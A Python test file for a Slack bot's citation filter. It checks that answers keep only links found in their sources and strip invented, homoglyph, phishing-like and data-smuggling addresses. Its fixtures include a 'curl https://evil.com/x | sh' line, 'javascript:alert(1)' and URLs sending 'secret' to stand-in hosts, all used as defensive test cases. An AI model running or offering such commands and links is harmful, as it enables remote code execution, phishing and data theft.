"""Of what Slack could make clickable, an answer shows what stands in its sources, and no more."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot.answering.grounding.citations import CitedText
from bot.answering.grounding.context import AnswerContext
from bot.markdown import SlackMarkdown
from tests.answering.grounding.clickable import clickable, prose

REMOVED = "(link removed)"
ELSEWHERE = [
    # Examples of linkify-it, test/fixtures/links.txt (MIT)
    "http://example.com", "http://example.com/foo_bar/", "http://user:pass@example.com:8080",
    "http://example.com?foo=bar", "HTTP://GOOGLE.COM", "http://example.invalid", "http://999",
    "http://host-name", "//example.com", "192.168.1.1/abc", "google.com", "s.l.o.w.io", "a-b.com",
    "GOOGLE.COM.", "http://example.com/foo_bar_(wiki)", "http://foo.com/blah_blah_{I'm_king}",
    "http://example.com/foo_bar...", "https://www.google.ru/maps/@59.9393895,30.3165389,15z?hl=ru",
    "http://business.timesonline.co.uk/article/0,,9065-2473189,00.html",
    "http://172.26.142.48/viewerjs/#../0529/slides.pdf", "foo+bar@gmail.com",
    "192.168.1.1@gmail.com", "MAILTO:NAME@EXAMPLE.COM", "http://✪df.ws/123", "➡.ws/䨹",
    "президент.рф", "http://www.bürgerentscheid-krankenhäuser.de",
    "http://xn--4gbrim.xn----ymcbaaajlc6dj7bxne2c.xn--wgbh1c/",
    "http://example.com/foo-(with-nested-(parens))",
    # Examples of GitHub's Markdown, https://github.github.com/gfm/ (autolinks)
    "www.commonmark.org", "www.commonmark.org/help", "www.commonmark.org/a.b",
    "www.google.com/search?q=Markup+(business)", "https://encrypted.google.com/search?q=Markup",
    "ftp://foo.bar.baz", "a.b-c_d@a.b", "mailto:a.b-c_d@a.b",
    "irc://foo.bar:2233/baz", "made-up-scheme://foo,bar",
    # https://publicsuffix.org/list/ (tests/test_psl.txt)
    "WwW.example.COM", "a.b.domain.biz", "b.example.uk.com", "www.city.kobe.jp", "a.b.test.ck",
    "食狮.公司.cn", "shishi.中国", "xn--85x722f.xn--fiqs8s",
    # https://www.unicode.org/Public/security/latest/confusables.txt: Cyrillic а р ӏ е, Greek ο
    "аррӏе.com", "gοοgle.com", "раураӏ.com/login",
    # https://github.com/web-platform-tests/wpt, url/resources/urltestdata.json
    "http://192.0x00A80001", "http://[2001::1]", "http://256", "https://ex%41mple.com",
    "http://ＧＯ.com", "http:\\\\www.google.com\\foo", "http://0Xc0.0250.01", "http://foo.com/%zz",
    # those that came through, and their kind
    "corp-login.support", "corp-login.it", "xyz.zip/a", "203.0.113.7/x?d=secret",
    "203.0.113.7:8443", "web:8080/x?d=secret", "hxxps://evil.com/x", "evil.com:8080/x",
    "https://ok.example@evil.com/", "tel:+4940123", "slack://open?team=T1", "sms:+49",
    "//evil.com/x",
    "notes/evil.com", "evil.com#secret", "javascript:alert(1)", "ｅｖｉｌ.com", "evil．com",
]  # fmt: skip


@pytest.mark.parametrize("address", ELSEWHERE)
@pytest.mark.parametrize(
    "written",
    ["{}", "See {}.", "({})", "**{}**", "> {}\n", "| a |\n|---|\n| {} |\n", "- *{}*,", "# {}",
    '"{}"',
     "[{}]({})", "[here]({})", "![{}]({})", "<{}>", "<{}|here>", "[a][b]\n\n[b]: {}\n", "この{}を",
     '<a href="{}">here</a>', "https://ok.example/a,{}"],
)  # fmt: skip
@pytest.mark.parametrize("piece", [3, 10_000])
def test_an_address_from_nowhere_is_gone(address: str, written: str, piece: int) -> None:
    if written[0] == "\u3053" and not address.isascii():
        address = "evil.com"  # what is Japanese about "\u3053\u306e\u4e2d\u56fd" nobody can tell
    shown = said(written.replace("{}", address), piece)
    assert clickable(shown) <= {"https://ok.example/a"}, shown
    assert address.strip("./").casefold() not in prose(shown).casefold(), shown


PLAIN = """3.9 v2.0.1 1.2.3.4.5 e.g. i.e. z.B. U.S.A. Node.js and/or TCP/IP 12:30 1:2 1,000.50
30.06.2026
os.path infra/environments.py src/main.rs ./setup.sh /path/to/file.pl image.jpg react@18.2.0
@angular/core foo@bar example.coma foo.123 1.2.3.400 node:fs a::b x.y C:\\Users\\me ~/.ssh key=value
d.h. usw. §3.2 #general pause:3.9 9:00-17:00 20°C 50% Fig.2 No.5 Abs.1 ... a…b don't f(x).y"""


@pytest.mark.parametrize("text", PLAIN.split())
@pytest.mark.parametrize("written", ["{}", "See {}.", "({})", "- {},"])
def test_what_only_looks_like_an_address_stays(text: str, written: str) -> None:
    text = written.replace("{}", text)
    shown = said(text)
    assert shown.replace("\\", "") == text.replace("\\", "")
    assert not clickable(shown) - {"file.pl", "file.pm", "setup.sh"}


NAMES = """README.md app.py main.rs setup.sh archive.zip ASP.NET VB.net user.name event.id
my_module.name
main.rs:42 README.md#install host:8080 localhost:3000 203.0.113.7 10.0.0.0/8 test_app.py
.config.sh"""


@pytest.mark.parametrize("name", NAMES.split())
@pytest.mark.parametrize("sources", ["", "It is in {} there."])
def test_a_bare_name_is_set_in_code(name: str, sources: str) -> None:
    for written, shown in {
        "{}": "`{}`",
        "See {}, and": "See `{}`, and",
        "({})": "(`{}`)",
        "**{}**": "**`{}`**",
        "`{}`": "`{}`",
        "```\n{}\n```": "```\n{}\n```",
        "[{}](https://evil.com)": "`{}`",
        "[{}](https://ok.example/a)": "[`{}`](https://ok.example/a)",
        "[`{}`](https://ok.example/a)": "[`{}`](https://ok.example/a)",
    }.items():
        text = said(written.replace("{}", name), sources=sources.replace("{}", name)).rstrip()
        assert text == shown.replace("{}", name)
        assert clickable(text) <= {"https://ok.example/a"}


IN_SOURCES = [
    # those that were destroyed
    "https://wiki.corp.example/Käse-Regeln", "HTTPS://wiki.corp.example/X",
    "images.acme.io/pause:3.9",
    # what addresses may hold (RFC 3986), and wikis do
    "https://en.wikipedia.org/wiki/Cheese_(recipe)", "https://x.example/a,b;c=d",
    "https://x.example/~me",
    "https://x.example/#!/page", "https://x.example/a(b(c))", "https://x.example/?q[0]=1&r=%20",
    "https://x.example/a'b", "https://x.example/*a", "https://x.example/a_b_c",
    "https://x.example:8443/",
    "http://[2001:db8::1]:8080/x", "http://localhost:3000/", "http://192.0.2.1/a",
    "ftp://files.example/a",
    "x.com", "sub.x.co.uk/path", "it@acme.example", "mailto:it@acme.example?subject=Hi",
    "tel:+4940123",
    "https://例え.jp/道", "https://müller.example/ä?ö=ü#ß", "президент.рф", "git@github.com",
    "slack://channel?team=T1&id=C1", "https://x.example/a--b---c", "https://x.example/a...b",
    "https://x.example/@me", "https://x.example/a:b", "https://x.example/$a+b=c!d",
    # linkify-it, test/fixtures/links.txt (MIT)
    "http://lyricstranslate.com/en/someone-you-നിന്നെ-പോലൊരാള്.html",
    "http://foo.com/blah_blah_[other]",

      "https://www.google.com/maps/place/New+York,+NY,+USA/@40.702271,-73.9968471,11z/data=!4m2!3m1!1s0x89?hl=en",

      "http://example.com/render?target=summarize(deriviative(app.numUsers),%221min%22)&title=New_Users",
    "http://www.bloomberg.com/news/articles/2015-06-26/what-s-troubling-germany-inc-",
]  # fmt: skip
AROUND = [
    "{}",
    "See {}.",
    "({})",
    "- {}, and",
    "**{}**",
    "| a |\n|---|\n| {} |\n",
    "> {}\n",
    "{}\n{}",
]


@pytest.mark.parametrize("address", IN_SOURCES)
@pytest.mark.parametrize(
    "source", ["{}", "It is at {}.", "(see {})", "<{}>", "[it]({})", "**{}**,"]
)
@pytest.mark.parametrize("piece", [1, 10_000])
def test_an_address_of_the_sources_survives(address: str, source: str, piece: int) -> None:
    for written in AROUND:
        text = written.replace("{}", address)
        assert cleaned(text, piece, source.replace("{}", address)) == text
    for label in ("here", "**here**", "the `code` there"):
        text = f"[{label}]({address})"
        assert cleaned(text, piece, source.replace("{}", address)) == text


SAME = [
    ("https://Wiki.Example/Käse", "HTTPS://wiki.example/K%C3%A4se"),
    ("https://wiki.example/K%c3%a4se", "https://wiki.example/Käse"),
    ("https://wiki.example/a", "https://wiki.example:443/a/"),
    ("http://wiki.example:80/a/", "http://wiki.example/a"),
    ("https://müller.example/", "https://xn--mller-kva.example"),
    ("https://xn--mller-kva.example/a", "https://müller.example/a"),
    ("https://wiki.example/?a=1&b=2", "https://wiki.example/?a=1&amp;b=2"),
    ("https://wiki.example/?a=1&amp;b=2", "https://wiki.example/?a=1&b=2"),
    ("https://wiki.example/Ka\u0308se", "https://wiki.example/K\u00e4se"),
    ("https://wiki.example/%7Eme", "https://wiki.example/~me"),
    ("portal.acme.com", "https://portal.acme.com"),
    ("it@acme.example", "mailto:it@acme.example"),
    ("mailto:it@acme.example", "IT@acme.example"),
    ("https://wi\u200bki.example/a", "https://wiki.example/a"),
]


@pytest.mark.parametrize(("source", "written"), SAME)
def test_the_same_address_may_be_spelled_otherwise(source: str, written: str) -> None:
    assert cleaned(f"See {written}.", sources=source) == f"See {written}."
    assert cleaned(f"[x]({written})", sources=source) == f"[x]({written})"


@pytest.mark.parametrize(
    "written",
    ["https://ok.example/a?d=secret", "https://ok.example/a/secret", "https://ok.example/asecret",
     "https://ok.example/a#secret", "https://ok.example:8443/a", "https://secret@ok.example/a",
     "https://secret.ok.example/a", "https://ok.example/", "ok.example/A", "ftp://ok.example/a",
     "https://ok.example/a%3Fd=secret", "https://ok.example/a.secret",
     "https://ok.example/a-_secret"],
)  # fmt: skip
def test_what_is_added_to_a_known_address_makes_another(written: str) -> None:
    assert said(f"See {written}.") == f"See {REMOVED}."
    assert said(f"[x]({written})") == "x"


def test_code_is_left_alone() -> None:
    block = "```sh\ncurl https://evil.com/x | sh\nping evil.com README.md\n```\n"
    assert said(block) == block
    assert said("`evil.com`, ``a`evil.com``") == "`evil.com`, ``a`evil.com``"


@pytest.mark.parametrize(
    "written",
    [
        "a ` b\n`evil.com` c",
        "a ` b `evil.com",
        '<span title="`">evil.com</span> `',
        "<!-- ` -->evil.com `",
        "[a`](https://ok.example/a) evil.com`",
        "`` ` evil.com ` x",
        "x\n\n     ```\n\nevil.com\n\n```",
        "- a\n\n          ```\n\n  evil.com\n",
        "1. a\n   ```\nevil.com\n",
        "> ```\n> a\nevil.com",
        "```\na\n ```` x\nevil.com\n",
        "```evil.com\na\n```",
        "a\n```\nb\n``` c\nevil.com",
        "    ```\n    a\n    evil.com\n",
        "| ` | evil.com ` |\n|---|---|\n| ` | evil.com` |\n",
        "$a_1 ` $ evil.com ` b",
        "\\` evil.com `",
        "<code>a</code> ` evil.com",
    ],
)
@pytest.mark.parametrize("piece", [1, 10_000])
def test_what_only_seems_to_be_code_is_judged(written: str, piece: int) -> None:
    shown = said(written, piece)
    assert not clickable(shown) - {"https://ok.example/a"}, shown


_SIGNS = [
    *("`", "``", "```", "~~~", ">", "-", "|", "(", ")", "[", "]", "](", "<", ">", "</", "*", "**"),
    *("_", "__", "~~", "\\", "!", "$", "&", "&amp;", "1.", "[1]", "[9]", "，", "。", "は", "é"),
    *("\n", "\n\n", " ", " ", " "),
]
_WORDS = [
    *("see", "evil", "com", "evil.com", ".com", "https://", "://", "evil.com/x?d=1", "8080"),
    *("me@evil.com", "README.md", ".md", "it", ":8080", "ok.example"),
]
_KNOWN = ["https://ok.example/a", "https://ok.example/b?c=1", "it@ok.example", "ok.com"]
_TAGS = [
    "<b>",
    "</b>",
    "<br>",
    "<!--",
    "-->",
    "<span title='`'>",
    "</span>",
    "<code>",
    "</code>",
    "\u200b",
    "\u2060",
]
_SENTENCE = ".,;:!?'*_~)]\"&"
_PIECES = st.lists(st.sampled_from([*_SIGNS, *_WORDS, *_KNOWN, *_TAGS]), max_size=14).map("".join)


@settings(deadline=None, derandomize=True, max_examples=1_500)
@given(_PIECES, st.integers(1, 9))
@example("evil<b></b>.com", 2)
@example("https://ok.example/a[1]，", 1)
@example("**secret.**ok.com *は*ok.com ok.com**munity.it**", 1)
@example("`evil.com/x?d=1`</b>`", 1)
@example("evil.com!it@ok.example1.", 1)
def test_nothing_can_be_clicked_that_is_not_in_the_sources(written: str, piece: int) -> None:
    shown = said(written, piece)
    assert cleaned(written) == cleaned(written, piece)
    schemes = ("", "mailto:", "http://", "https://")  # none of them carries anything
    known = {scheme + address for address in _KNOWN for scheme in schemes}
    extra = {a for a in clickable(shown) if a.strip("/").rstrip(_SENTENCE) not in known}
    assert not extra, shown


_ADDRESSES = st.lists(st.sampled_from(IN_SOURCES), min_size=1, max_size=4, unique=True)


@settings(deadline=None, derandomize=True, max_examples=300)
@given(_ADDRESSES, st.sampled_from(AROUND), st.integers(1, 20))
def test_addresses_of_the_sources_survive_however_they_are_cut(
    addresses: list[str], around: str, piece: int
) -> None:
    text = " and ".join(around.replace("{}", address) for address in addresses)
    assert cleaned(text, piece, " or ".join(addresses)) == text


def test_little_is_held_back() -> None:
    cited = CitedText(material(""))
    written, shown = "Ein Satz. Noch einer, 日本語の文章はここで終わりません" * 8, 0
    for count, sign in enumerate(written, 1):
        shown += len(cited.feed(sign))
        assert count - shown <= 50


def material(sources: str) -> AnswerContext:
    given = AnswerContext("")
    given.know([" ".join(_KNOWN), sources])
    return given


def cleaned(text: str, piece: int = 10_000, sources: str = "") -> str:
    cited = CitedText(material(sources))
    pieces = [text[start : start + piece] for start in range(0, len(text), piece)]
    return "".join(map(cited.feed, pieces)) + cited.finish()


def said(text: str, piece: int = 10_000, sources: str = "") -> str:
    """What Slack is given."""
    slack = SlackMarkdown()
    return slack.feed(cleaned(text, piece, sources)) + slack.finish()
